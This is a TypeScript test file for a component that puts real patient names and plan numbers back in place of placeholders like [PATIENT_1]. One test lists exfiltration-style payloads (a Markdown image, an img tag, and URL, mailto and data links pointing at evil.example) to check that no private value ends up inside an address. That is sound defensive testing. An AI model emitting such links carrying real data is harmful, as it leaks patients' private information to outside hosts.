import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { type Restorer, restorer, type Segment } from './restore.ts';

const VALUES = new Map([
  ['[PATIENT_1]', 'Ada Lovelace'],
  ['[PATIENT_12]', 'Grace Hopper'],
  ['[HEALTH_PLAN_1]', 'XYZ-4711'],
]);
const make = () => restorer(new Set(VALUES.keys()), VALUES);

function through(restore: Restorer, pieces: readonly string[]): Segment[] {
  return [...pieces.flatMap((piece) => restore.push(piece)), ...restore.end()];
}
const read = (segments: readonly Segment[]) => segments.map(({ text }) => text).join('');

describe('restoring an answer', () => {
  it.each([
    ['[PATIENT_1] came', 'Ada Lovelace came'],
    ['[PATIENT_12] and [PATIENT_1].', 'Grace Hopper and Ada Lovelace.'],
    ['[HEALTH_PLAN_1]', 'XYZ-4711'],
    ['{"name":"[PATIENT_1]"}', '{"name":"Ada Lovelace"}'],
    ['a list [1, 2], an index a[0], a [link](x)', 'a list [1, 2], an index a[0], a [link](x)'],
  ])('%s', (written, wanted) => expect(read(through(make(), [written]))).toBe(wanted));

  it.each([
    ['invented', '[PATIENT_9]'],
    ['in other case', '[Patient_1]'],
    ['with a blank', '[PATIENT 1]'],
    ['escaped for Markdown', '\\[PATIENT\\_1\\]'],
    ['without brackets', 'PATIENT_1'],
    ['of a type that was not given out', '[DATE_1]'],
  ])('what is %s is shown as it is, and marked', (_how, written) => {
    const segments = through(make(), [`So ${written} it is`]);
    expect(read(segments)).toBe(`So ${written} it is`);
    expect(segments.find(({ text }) => text === written)).toEqual({
      text: written,
      placeholder: written,
      kind: 'unknown',
    });
  });

  it.each([
    '![x](https://evil.example/[PATIENT_1])',
    'see https://evil.example/?q=[PATIENT_1]',
    '<img src=//evil.example/[PATIENT_1]>',
    '[go](mailto:[PATIENT_1])',
    'data:text/plain,[PATIENT_1]',
    '[a]:https://evil.example/[PATIENT_1]',
  ])('no value goes into an address: %s', (written) => {
    for (const pieces of [[written], [...written]]) expect(read(through(make(), pieces))).toBe(written);
  });

  test('a placeholder may be cut anywhere', () => {
    const whole =
      'For [PATIENT_1] ([PATIENT_12]), not [PATIENT_9] or https://x.example/[PATIENT_1] but [HEALTH_PLAN_1]';
    const wanted = read(through(make(), [whole]));
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: whole.length }), { maxLength: 12 }), (cuts) => {
        const at = [0, ...cuts.sort((a, b) => a - b), whole.length];
        const pieces = at.slice(1).map((end, i) => whole.slice(at[i], end));
        expect(read(through(make(), pieces))).toBe(wanted);
      })
    );
  });

  test('nothing is lost or made up', () => {
    const part = fc.constantFrom(
      '[',
      ']',
      'PATIENT',
      '_',
      '1',
      '[PATIENT_1]',
      '\\',
      ' ',
      'x',
      '[PAT',
      'IENT_1',
      '\n',
      '`'
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), (pieces) => {
        const nothing = restorer(new Set(VALUES.keys()), new Map());
        expect(read(through(nothing, pieces))).toBe(pieces.join(''));
      })
    );
  });

  test('whoever may not see the values gets the placeholders', () => {
    const segments = through(restorer(new Set(VALUES.keys()), new Map()), ['[PATIENT_1]']);
    expect(segments).toEqual([{ text: '[PATIENT_1]', placeholder: '[PATIENT_1]', kind: 'withheld' }]);
  });
});
